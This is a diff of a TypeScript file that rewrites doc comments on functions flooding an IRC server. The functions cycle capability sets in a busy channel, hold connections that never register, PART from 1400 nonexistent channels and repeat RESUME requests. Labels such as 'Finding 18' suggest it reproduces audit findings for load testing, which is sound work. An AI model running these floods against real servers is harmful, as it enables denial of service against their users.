@@ -11,7 +11,7 @@ const REACH = 900
 const wire = (names: readonly Capability[]): string =>
   names.map((name) => wireCapability(name, VENDOR)).join(' ')
 
-/** Says a line again and again until the connection ends. */
+/** Sends a line again and again until the connection ends. */
 async function repeat(
   { port }: Order,
   from: string,
@@ -36,7 +36,10 @@ async function repeat(
 
 const REGISTRATION = 'USER attacker 0 * :attacker'
 
-/** Finding 3: in the busy channel, with ever new sets of capabilities. */
+/**
+ * Finding 3: joins the busy channel with one set of capabilities after another, so that the server encodes each
+ * event many times.
+ */
 export function manyCapabilities(order: Order, from: string): Promise<void> {
   return repeat(order, from, LINE_MS, [REGISTRATION, `JOIN ${order.channel}`], () => {
     const names = CAPABILITIES.filter((name) => name !== 'cap-notify')
@@ -45,18 +48,21 @@ export function manyCapabilities(order: Order, from: string): Promise<void> {
   })
 }
 
-/** Finding 11: a connection that says nothing of itself and answers PING. */
+/** Finding 11: a connection that never registers, and answers PING to stay open. */
 export function neverRegisters(order: Order, from: string): Promise<void> {
   return repeat(order, from, LINE_MS, [], () => null)
 }
 
-/** Finding 18: leaves fourteen hundred channels that there are not. */
+/** Finding 18: PARTs from fourteen hundred channels that do not exist. */
 export function manyParts(order: Order, from: string): Promise<void> {
   const line = `PART ${Array.from({ length: 1400 }, (_, index) => `#n${index}`).join(',')}`
   return repeat(order, from, PART_MS, [REGISTRATION], () => line)
 }
 
-/** The storm: comes back and back for all that was said, each time with another set of capabilities. */
+/**
+ * The storm: asks by RESUME for everything that was said, again and again, each time with another set of
+ * capabilities.
+ */
 export function manyResumes(order: Order, from: string): Promise<void> {
   let seq = 0
   const begin = [REGISTRATION, `CAP REQ :${wire(WEB_CAPABILITIES)}`, `JOIN ${order.channel}`]
